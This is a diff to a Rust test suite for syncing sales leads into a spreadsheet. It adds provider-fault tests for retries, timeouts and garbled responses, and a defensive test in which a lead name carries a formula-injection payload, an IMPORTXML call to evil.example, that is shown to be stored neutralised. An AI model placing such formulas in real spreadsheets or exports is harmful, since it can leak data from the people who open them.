@@ -197,6 +197,128 @@ mod suite {
         assert_eq!(f.sync.state().await.unwrap().checkpoint, Checkpoint::START);
     }
 
+    /// A fault the fake injects on every attempt of the write, and what the error must say.
+    type Inject = fn(&FakeSheets);
+
+    /// The provider-fault table for the sheet sync (one test per row below): the fault on every
+    /// attempt of the write, then the fake recovers. Each row checks the attempts were bounded,
+    /// the failure is a clear error that moved nothing, and the next tick leaves exactly one
+    /// row per lead (a write that landed behind a garbled answer is redone in place, never
+    /// appended again).
+    async fn fault_row(store: Store, fault: &str, inject: Inject, expected_message: &str) {
+        let dir = tempfile::tempdir().unwrap();
+        let fake = FakeSheets::start(support::SPREADSHEET_ID, support::TAB).await;
+        let retry = salesdept_projections::sheet::RetryPolicy {
+            timeout: Duration::from_secs(1),
+            ..support::fast_retry()
+        };
+        let sink = support::google_sink_with(&fake, dir.path(), retry, fake.base_url()).await;
+        let sync_ = SheetSync::new(store.clone(), sink);
+        let first = discover(&store, "Maya Lindqvist").await;
+        support::settle(&store).await;
+        inject(&fake);
+        let error = sync_.sync().await.unwrap_err();
+        assert!(
+            matches!(error, SheetError::Unavailable { attempts: 3, .. }),
+            "{fault}: {error:?}"
+        );
+        let message = error.to_string();
+        assert!(
+            message.contains("values.batchUpdate") && message.contains(expected_message),
+            "{fault}: {message}"
+        );
+        assert!(!message.contains("fake-token"), "{fault}: {message}");
+        assert!(
+            !message.contains("Bad Gateway"),
+            "{fault}: no body in errors: {message}"
+        );
+        assert_eq!(fake.count("batchUpdate"), 3, "{fault}: bounded attempts");
+        let state = sync_.state().await.unwrap();
+        assert_eq!(
+            state.checkpoint,
+            Checkpoint::START,
+            "{fault}: checkpoint not moved"
+        );
+        assert!(
+            state.rows.is_empty(),
+            "{fault}: no mapping for an unconfirmed write"
+        );
+
+        // Recovered; a lead found meanwhile lands below, every lead exactly once.
+        fake.stop_failing();
+        let second = discover(&store, "Ada Byron").await;
+        let report = sync(&sync_, &store).await;
+        assert!(report.wrote, "{fault}");
+        sync(&sync_, &store).await;
+        assert_eq!(fake.last_row(), 3, "{fault}: header and one row per lead");
+        assert_eq!(fake.row(1)[0], "Lead ID");
+        assert_eq!(fake.row(2), row_of(&store, first).await, "{fault}");
+        assert_eq!(fake.row(3), row_of(&store, second).await, "{fault}");
+    }
+
+    pub async fn fault_429_with_retry_after(store: Store) {
+        let inject: Inject = |fake| fake.fail_next_on("batchUpdate", 100, 429, Some(1));
+        fault_row(store, "429", inject, "429").await;
+    }
+
+    pub async fn fault_500(store: Store) {
+        let inject: Inject = |fake| fake.fail_next_on("batchUpdate", 100, 500, None);
+        fault_row(store, "500", inject, "500").await;
+    }
+
+    pub async fn fault_timeout(store: Store) {
+        let inject: Inject = |fake| {
+            for _ in 0..3 {
+                fake.delay_next(Duration::from_secs(3));
+            }
+        };
+        fault_row(store, "timeout", inject, "no answer within").await;
+    }
+
+    pub async fn fault_garbage_body(store: Store) {
+        let inject: Inject =
+            |fake| fake.garble_next_on("batchUpdate", 100, "<html>502 Bad Gateway</html>");
+        fault_row(store, "garbage", inject, "could not be read").await;
+    }
+
+    pub async fn fault_truncated_json(store: Store) {
+        let inject: Inject = |fake| {
+            fake.garble_next_on("batchUpdate", 100, r#"{"spreadsheetId": "1AbC", "totalUpd"#)
+        };
+        fault_row(store, "truncated", inject, "could not be read").await;
+    }
+
+    /// Written `RAW` and neutralised: a formula-like name reaches the sheet as text with a
+    /// leading apostrophe (safe in a CSV download too), and reading it back is no edit.
+    pub async fn formula_cells_are_neutralised_and_not_read_back_as_edits(store: Store) {
+        let f = fixture(store).await;
+        let attack = "=IMPORTXML(\"https://evil.example\",\"//a\")";
+        let lead = discover(&f.store, attack).await;
+        sync(&f.sync, &f.store).await;
+        assert_eq!(f.fake.cell(2, 1), format!("'{attack}"));
+        let expected = row_of(&f.store, lead).await;
+        assert_eq!(expected[1], attack);
+        support::settle(&f.store).await;
+        let report = f.sync.sync().await.unwrap();
+        assert!(report.edits.is_empty(), "{:?}", report.edits);
+        f.fake.set_cell(2, NOTES, "@Ana: call back");
+        support::settle(&f.store).await;
+        let report = f.sync.sync().await.unwrap();
+        assert_eq!(
+            report.edits,
+            vec![EditOutcome::Recorded {
+                lead_id: lead,
+                event_type: "note_added"
+            }]
+        );
+        support::settle(&f.store).await;
+        f.sync.sync().await.unwrap();
+        assert_eq!(f.fake.cell(2, NOTES), "'@Ana: call back");
+        support::settle(&f.store).await;
+        let report = f.sync.sync().await.unwrap();
+        assert!(report.edits.is_empty(), "{:?}", report.edits);
+    }
+
     pub async fn a_human_note_becomes_note_added_once(store: Store) {
         let f = fixture(store).await;
         let lead = discover(&f.store, "Maya Lindqvist").await;
@@ -436,4 +558,10 @@ both_stores!(
     closed_and_do_not_contact_edits_become_events_once,
     full_rewrite_takes_a_constant_number_of_calls,
     a_forgotten_leads_row_is_blanked_on_the_next_sync,
+    formula_cells_are_neutralised_and_not_read_back_as_edits,
+    fault_429_with_retry_after,
+    fault_500,
+    fault_timeout,
+    fault_garbage_body,
+    fault_truncated_json,
 );
